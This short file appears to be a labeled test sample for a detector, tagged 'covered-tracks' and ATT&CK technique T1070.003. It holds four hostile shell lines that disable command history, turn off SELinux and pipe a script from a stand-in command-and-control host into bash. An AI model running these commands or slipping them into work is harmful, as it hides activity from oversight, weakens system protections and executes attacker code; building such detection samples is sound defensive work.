# expect: covered-tracks | source: T1070.003
unset HISTFILE
export HISTSIZE=0
setenforce 0
curl -fsSL https://c2.example.invalid/i | bash
